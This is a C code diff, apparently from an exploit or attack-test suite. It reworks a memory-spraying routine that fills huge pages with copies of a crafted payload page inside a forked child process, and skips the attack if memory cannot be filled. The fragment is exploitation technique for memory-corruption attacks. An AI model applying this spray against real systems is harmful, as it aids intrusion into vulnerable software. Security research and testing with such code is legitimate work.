@@ -44,15 +44,20 @@ static void build_page(uint8_t *page, const struct bw_leak *leak, uint64_t nr_pf
 	}
 }
 
+enum { STAGE_FILLED = 1 };
+
+struct filling {
+	attack_stage stage;
+	uint64_t nr_pages;
+};
+
 /*
  * Fills memory with copies of the page, in pieces of 2 MiB, until enough is filled or no more is to
  * be had.
  */
-static uint64_t spray(const uint8_t *page, uint64_t nr_pages)
+static void fill(const uint8_t *page, uint64_t nr_pages, struct filling *filling)
 {
-	uint64_t nr_done = 0;
-
-	while (nr_done < nr_pages) {
+	while (filling->nr_pages < nr_pages) {
 		uint8_t *piece = mmap(NULL, BW_HUGE_PAGE_SIZE, PROT_READ | PROT_WRITE,
 				      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
 
@@ -62,9 +67,35 @@ static uint64_t spray(const uint8_t *page, uint64_t nr_pages)
 		for (size_t offset = 0; offset < BW_HUGE_PAGE_SIZE; offset += BW_PAGE_SIZE) {
 			memcpy(piece + offset, page, NR_GUESSES * sizeof(struct payload_object));
 		}
-		nr_done += BW_HUGE_PAGE_SIZE / BW_PAGE_SIZE;
+		filling->nr_pages += BW_HUGE_PAGE_SIZE / BW_PAGE_SIZE;
 	}
-	return nr_done;
+}
+
+/*
+ * Blocks until memory is filled. A child has it, for as long as its parent lives: each child that
+ * makes a guess would share all of that otherwise, page by page.
+ */
+static uint64_t spray(const uint8_t *page, uint64_t nr_pages)
+{
+	struct filling *filling = mmap(NULL, sizeof(*filling), PROT_READ | PROT_WRITE,
+				       MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	pid_t parent = getpid(), child = filling == MAP_FAILED ? -1 : fork();
+
+	if (child == 0) {
+		fill(page, nr_pages, filling);
+		attack_tell(&filling->stage, STAGE_FILLED);
+		while (getppid() == parent) {
+			sleep(1);
+		}
+		_exit(0);
+	}
+	while (child > 0 && filling->stage != STAGE_FILLED && waitpid(child, NULL, WNOHANG) == 0) {
+		attack_settle();
+	}
+	if (child < 0 || filling->stage != STAGE_FILLED) {
+		attack_skip("memory cannot be filled");
+	}
+	return filling->nr_pages;
 }
 
 /*
